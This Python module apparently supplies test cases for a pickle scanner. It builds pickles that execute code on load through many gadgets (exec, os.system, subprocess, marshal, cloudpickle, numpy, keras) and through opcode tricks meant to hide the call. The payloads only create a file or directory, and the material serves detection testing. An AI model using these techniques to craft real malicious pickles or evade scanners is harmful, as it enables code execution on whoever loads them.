"""Pickles that do something as soon as they are loaded, one for each technique.

Each is a function from a path that does not exist yet to the bytes of a pickle which makes a file or directory
there, or changes :mod:`.victim`.
"""

from __future__ import annotations

import marshal
import pickle
from collections.abc import Callable
from typing import Any

from . import victim
from .opcodes import (
    BUILD, MARK, REDUCE, TUPLE, call, data, listed, mapping, name, new, new_ex, number, old_name, reduced,
    text, whole,
)

Technique = Callable[[str], bytes]
V = "hostile.victim"


def code(path: str) -> str:
    return f"open({path!r}, 'w').close()"


def made(path: str) -> bytes:
    """A map object whose first item is made by making the directory."""
    return call(name("builtins", "map"), name("os", "mkdir"), listed(text(path)))


def _marshalled(path: str) -> bytes:
    compiled = marshal.dumps(compile(code(path), "x", "exec"))
    loaded = call(name("marshal", "loads"), data(compiled))
    return call(call(name("types", "FunctionType"), loaded, mapping()))


def _by_cloudpickle(path: str) -> bytes:
    """A function as cloudpickle writes it, and a call of it."""
    import cloudpickle

    def touch() -> None:
        open(path, "w").close()

    written: bytes = cloudpickle.dumps(touch, protocol=3)
    return call(written[2:-1])


def _cloud(path: str) -> bytes:
    """A cloudpickle within a pickle."""
    import cloudpickle

    compiled: bytes = cloudpickle.dumps(lambda: open(path, "w").close())
    return call(call(name("cloudpickle", "loads"), data(compiled)))


#: Calls, by what is called.
CALLS: dict[str, Technique] = {
    "exec": lambda p: call(name("builtins", "exec"), text(code(p))),
    "eval": lambda p: call(name("builtins", "eval"), text(code(p))),
    "open": lambda p: call(name("builtins", "open"), text(p), text("w")),
    "io.open": lambda p: call(name("io", "open"), text(p), text("w")),
    "io.FileIO": lambda p: call(name("_io", "FileIO"), text(p), text("w")),
    "os.system": lambda p: call(name("os", "system"), text(f"touch {p}")),
    "posix.system": lambda p: call(name("posix", "system"), text(f"touch {p}")),
    "os.mkdir": lambda p: call(name("os", "mkdir"), text(p)),
    "os.popen": lambda p: call(call(name("builtins", "getattr"),
                                    call(name("os", "popen"), text(f"touch {p}")), text("close"))),
    "subprocess.call": lambda p: call(name("subprocess", "call"), listed(text("touch"), text(p))),
    "subprocess.getoutput": lambda p: call(name("subprocess", "getoutput"), text(f"touch {p}")),
    "pathlib.Path.mkdir": lambda p: call(name("pathlib", "Path.mkdir"), call(name("pathlib", "Path"), text(p))),
    "dotted-into-another-module": lambda p: call(name("pathlib", "os.mkdir"), text(p)),
    "getattr-of-an-import": lambda p: call(call(
        name("builtins", "getattr"), call(name("importlib", "import_module"), text("os")), text("mkdir")), text(p)),
    "__import__": lambda p: call(call(
        name("builtins", "getattr"), call(name("builtins", "__import__"), text("os")), text("mkdir")), text(p)),
    "pkgutil.resolve_name": lambda p: call(call(name("pkgutil", "resolve_name"), text("os:mkdir")), text(p)),
    "__globals__-of-a-function": lambda p: call(call(
        name("operator", "getitem"), name("os", "makedirs.__globals__"), text("mkdir")), text(p)),
    "operator.attrgetter": lambda p: call(call(
        call(name("operator", "attrgetter"), text("mkdir")), call(name("importlib", "import_module"), text("os"))
    ), text(p)),
    "operator.methodcaller": lambda p: call(
        call(name("operator", "methodcaller"), text("mkdir")), call(name("pathlib", "Path"), text(p))),
    "functools.partial": lambda p: call(call(name("functools", "partial"), name("os", "mkdir"), text(p))),
    "functools.reduce": lambda p: call(
        name("functools", "reduce"), name("builtins", "open"), listed(text(p), text("w"))),
    "functools.lru_cache": lambda p: call(call(name("functools", "lru_cache"), name("os", "mkdir")), text(p)),
    "functools.singledispatch": lambda p: call(
        call(name("functools", "singledispatch"), name("os", "mkdir")), text(p)),
    "operator.call": lambda p: call(
        name("functools", "partial.__call__"), call(name("functools", "partial"), name("os", "mkdir")), text(p)),
    "map": lambda p: call(name("builtins", "list"), made(p)),
    "filter": lambda p: call(name("builtins", "tuple"), call(
        name("builtins", "filter"), name("os", "mkdir"), listed(text(p)))),
    "itertools.starmap": lambda p: call(name("builtins", "set"), call(
        name("itertools", "starmap"), name("os", "mkdir"), listed(MARK + text(p) + TUPLE))),
    "collections.deque-of-map": lambda p: call(name("collections", "deque"), made(p)),
    "copyreg._reconstructor": lambda p: call(
        name("copyreg", "_reconstructor"), name("builtins", "tuple"), name("builtins", "tuple"), made(p)),
    "copyreg.__newobj__": lambda p: call(name("copyreg", "__newobj__"), name("builtins", "tuple"), made(p)),
    "copyreg.__newobj_ex__": lambda p: call(
        name("copyreg", "__newobj_ex__"), name("builtins", "tuple"), MARK + made(p) + TUPLE, b"}"),
    "sorted": lambda p: call(name("builtins", "sorted"), made(p)),
    "timeit": lambda p: call(name("timeit", "timeit"), text(code(p)), text("pass"), name("time", "time"), b"K\1"),
    "runpy": lambda p: call(name("runpy", "_run_code"), call(
        name("builtins", "compile"), text(code(p)), text("x"), text("exec")), mapping()),
    "code.InteractiveInterpreter": lambda p: call(
        name("code", "InteractiveInterpreter.runcode"), call(name("code", "InteractiveInterpreter")),
        call(name("builtins", "compile"), text(code(p)), text("x"), text("exec"))),
    "bdb": lambda p: call(name("bdb", "Bdb.run"), call(name("bdb", "Bdb")), text(code(p))),
    "cProfile": lambda p: call(name("cProfile", "Profile.run"), call(name("cProfile", "Profile")), text(code(p))),
    "pydoc.pipepager": lambda p: call(name("pydoc", "pipepager"), text(""), text(f"touch {p}")),
    "logging.FileHandler": lambda p: call(name("logging", "FileHandler"), text(p)),
    "logging.config.dictConfig": lambda p: call(name("logging.config", "dictConfig"), mapping(
        text("version"), b"K\1", text("incremental"), b"\x89", text("disable_existing_loggers"), b"\x89",
        text("formatters"), mapping(text("x"), mapping(text("()"), text(f"{V}.fire"))))),
    "sqlite3": lambda p: call(name("sqlite3", "connect"), text(p)),
    "zipfile": lambda p: call(name("zipfile", "ZipFile"), text(p), text("w")),
    "gzip": lambda p: call(name("gzip", "GzipFile"), text(p), text("wb")),
    "shutil.copyfile": lambda p: call(name("shutil", "copyfile"), text("/dev/null"), text(p)),
    "tempfile": lambda p: call(name("tempfile", "mkdtemp"), text(""), text(p.rpartition("/")[2]),
                               text(p.rpartition("/")[0])),
    "pickle.loads": lambda p: call(name("pickle", "loads"), data(whole(CALLS["exec"](p)))),
    "_pickle.loads": lambda p: call(name("_pickle", "loads"), data(whole(CALLS["exec"](p)))),
    "marshal": _marshalled,
    "numpy.memmap": lambda p: new(
        name("numpy", "memmap"), text(p), text("uint8"), text("w+"), number(0), MARK + b"K\1" + TUPLE),
    "numpy.runstring": lambda p: call(name("numpy.testing._private.utils", "runstring"), text(code(p)), mapping()),
    "numpy.f2py": lambda p: call(name("numpy.f2py.crackfortran", "myeval"), text(code(p))),
    "numpy.vectorize": lambda p: call(call(name("numpy", "vectorize"), name("os", "mkdir")), text(p)),
    "numpy.save": lambda p: call(name("numpy", "save"), text(f"{p}.npy"), number(1)),
    "tensorflow.io.write_file": lambda p: call(name("tensorflow", "io.write_file"), text(p), text("x")),
    "tensorflow.io.gfile": lambda p: call(name("tensorflow", "io.gfile.makedirs"), text(p)),
    "tensorflow.py_function": lambda p: call(
        name("tensorflow", "py_function"), call(name("functools", "partial"), name(V, "fire")), listed(),
        text("string")),
    "keras.func_load": lambda p: call(call(
        name("keras.src.utils.python_utils", "func_load"), _code_of(p), b"N", b"N", mapping())),
    "keras.deserialize": lambda p: call(call(
        name("keras.saving", "deserialize_keras_object"),
        mapping(text("class_name"), text("__lambda__"), text("config"), mapping(text("value"), _code_of(p))),
        b"N", b"\x89")),
    "cloudpickle": _by_cloudpickle,
    "cloudpickle.loads": _cloud,
    "cloudpickle.subimport": lambda p: call(call(
        name("builtins", "getattr"), call(name("cloudpickle.cloudpickle", "subimport"), text("os")), text("mkdir")
    ), text(p)),
}


def _code_of(path: str) -> bytes:
    import codecs

    compiled = marshal.dumps(compile(code(path), "x", "exec"))
    return text(codecs.encode(compiled, "base64").decode())


#: The same call, by other opcodes and other protocols.
OPCODES: dict[str, Technique] = {
    **{f"protocol-{n}": lambda p, n=n: reduced(exec, (code(p),), n) for n in range(6)},
    "GLOBAL": lambda p: whole(call(old_name("os", "mkdir"), text(p))),
    "GLOBAL-without-header": lambda p: f"cos\nmkdir\n(V{p}\ntR.".encode(),
    "GLOBAL-with-a-name-of-python-2": lambda p: f"ccommands\ngetoutput\n(Vtouch {p}\ntR.".encode(),
    "INST": lambda p: f"(V{p}\nios\nmkdir\n.".encode(),
    "OBJ": lambda p: whole(MARK + name("os", "mkdir") + text(p) + b"o"),
    "NEWOBJ": lambda p: whole(new(name("builtins", "tuple"), new(
        name("builtins", "map"), name("os", "mkdir"), listed(text(p))))),
    "NEWOBJ_EX": lambda p: whole(new_ex(name("builtins", "frozenset"), new_ex(
        name("builtins", "map"), name("os", "mkdir"), listed(text(p))))),
    "BUILD-of-a-class-with-__setstate__": lambda p: whole(new(name(V, "Target")) + text(p) + BUILD),
    "BUILD-of-a-partial": lambda p: whole(call(
        call(name("functools", "partial"), name("builtins", "len"))
        + MARK + name("os", "mkdir") + MARK + text(p) + TUPLE + b"}" + b"N" + TUPLE + BUILD)),
    "BUILD-of-__dict__": lambda p: whole(name(V, "bare") + mapping(text("flag"), text(p)) + BUILD),
    "BUILD-of-slots": lambda p: whole(
        name(V, "Bare") + b"N" + mapping(text("flag"), text(p)) + b"\x86" + BUILD),
    "SETITEM": lambda p: whole(name(V, "TABLE") + text("a") + text(p) + b"s"),
    "SETITEMS": lambda p: whole(name(V, "TABLE") + MARK + text("a") + text(p) + b"u"),
    "APPEND": lambda p: whole(name(V, "FLAGS") + text(p) + b"a"),
    "APPENDS": lambda p: whole(name(V, "FLAGS") + MARK + text(p) + b"e"),
    "APPENDS-to-an-object": lambda p: whole(new(name(V, "Grabs")) + MARK + text(p) + b"e"),
    "APPEND-to-an-object": lambda p: whole(new(name(V, "Grabs")) + text(p) + b"a"),
    "SETITEM-of-an-object": lambda p: whole(new(name(V, "Grabs")) + text("a") + text(p) + b"s"),
    "ADDITEMS": lambda p: whole(name(V, "WORDS") + MARK + text(p) + b"\x90"),
    "ADDITEMS-to-an-object": lambda p: whole(new(name(V, "Grabs")) + MARK + text(p) + b"\x90"),
    "PUT-and-GET": lambda p: f"cos\nmkdir\np7\n0(V{p}\ntp8\n0g7\ng8\nR.".encode(),
    "BINPUT-and-BINGET": lambda p: whole(
        name("os", "mkdir") + b"q\7" + b"0" + MARK + text(p) + TUPLE + b"q\1" + b"0" + b"h\7h\1" + REDUCE),
    "LONG_BINPUT-and-LONG_BINGET": lambda p: whole(
        name("os", "mkdir") + b"r\7\0\0\0" + b"0" + b"j\7\0\0\0" + MARK + text(p) + TUPLE + REDUCE),
    "MEMOIZE": lambda p: whole(name("os", "mkdir") + b"\x94" + b"0" + b"h\0" + MARK + text(p) + TUPLE + REDUCE),
    "name-from-the-memo": lambda p: whole(
        text("os") + b"\x94" + b"0" + text("mkdir") + b"\x94" + b"0" + b"h\0h\1\x93" + MARK + text(p) + TUPLE + REDUCE),
    "DUP": lambda p: whole(MARK + text(p) + TUPLE + b"2" + b"00" + call(name("os", "mkdir"), text(p)) + b"2" + b"0"),
    "POP-hides-the-call": lambda p: whole(call(name("os", "mkdir"), text(p)) + b"0" + listed(b"K\1")),
    "POP_MARK-hides-the-call": lambda p: whole(MARK + call(name("os", "mkdir"), text(p)) + b"1" + listed(b"K\1")),
    "between-innocent-values": lambda p: whole(listed(
        text("meta"), b"K\1", call(name("os", "mkdir"), text(p)), text("run"))),
    "EXT1": lambda p: whole(call(b"\x82\xf1", text(p))),
    "EXT2": lambda p: whole(call(b"\x83\xf2\xf2", text(p))),
    "EXT4": lambda p: whole(call(b"\x84\xf3\xf3\xf3\0", text(p))),
    "PERSID": lambda p: f"P{p}\n.".encode(),
    "BINPERSID": lambda p: whole(text(p) + b"Q"),
    "frames-of-every-size": lambda p: whole(
        b"\x95\1\0\0\0\0\0\0\0N" + b"0" + b"\x95" + len(call(name("os", "mkdir"), text(p))).to_bytes(8, "little")
        + call(name("os", "mkdir"), text(p))),
    "protocol-5-bytearray": lambda p: whole(call(
        name("builtins", "exec"), b"\x96" + len(code(p)).to_bytes(8, "little") + code(p).encode()), b"\x80\5"),
    "header-twice": lambda p: whole(b"\x80\4" + call(name("os", "mkdir"), text(p))),
    "header-of-protocol-2-with-new-opcodes": lambda p: whole(call(name("os", "mkdir"), text(p)), b"\x80\2"),
    "more-behind-the-end": lambda p: whole(call(name("os", "mkdir"), text(p))) + b"junk" * 50,
    "import-alone": lambda p: whole(name("hostile.sideeffect", "NAME")),
    "import-of-a-dotted-name": lambda p: whole(name("hostile.sideeffect", "NAME.__class__")),
    "callable-without-arguments": lambda p: whole(name(V, "fire") + b")" + REDUCE),
    "set-and-frozenset": lambda p: whole(b"(" + call(name(V, "fire")) + b"\x91"),
    "key-of-a-dict": lambda p: whole(mapping(call(name(V, "fire")), b"N")),
    "LIST-and-DICT": lambda p: whole(MARK + call(name(V, "fire")) + b"l" + b"0" + MARK + text("a") + b"Nd"),
    "text-opcodes": lambda p: f"c{V}\nfire\n(S{p!r}\ntR0(I1\nL2L\nF1.5\nl.".encode(),
}


class Numpy:
    """Arrays of objects, as NumPy pickles them; what lies in them is loaded with them."""

    @staticmethod
    def object_array(path: str) -> bytes:
        import numpy

        return pickle.dumps(numpy.array([_Fires(path)], dtype=object), protocol=4)

    @staticmethod
    def object_scalar(path: str) -> bytes:
        return whole(call(
            name("numpy._core.multiarray", "scalar"), call(name("numpy", "dtype"), text("O")),
            call(name("os", "mkdir"), text(path))))

    @staticmethod
    def reconstruct(path: str) -> bytes:
        """An array whose state is an object array that is made by a call."""
        array = call(name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"), b")", data(b"b"))
        items = listed(call(name("os", "mkdir"), text(path)))
        dtype = call(name("numpy", "dtype"), text("O"))
        state = MARK + b"K\1" + MARK + b"K\1" + TUPLE + dtype + b"\x89" + items + TUPLE
        return whole(array + state + BUILD)


class _Fires:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return victim.fire, (self.path,)


NUMPY: dict[str, Technique] = {
    "numpy-object-array": Numpy.object_array,
    "numpy-object-scalar": Numpy.object_scalar,
    "numpy-reconstruct": Numpy.reconstruct,
}

TECHNIQUES: dict[str, Technique] = {
    **{key: lambda p, make=make: whole(make(p)) for key, make in CALLS.items()}, **OPCODES, **NUMPY,
}
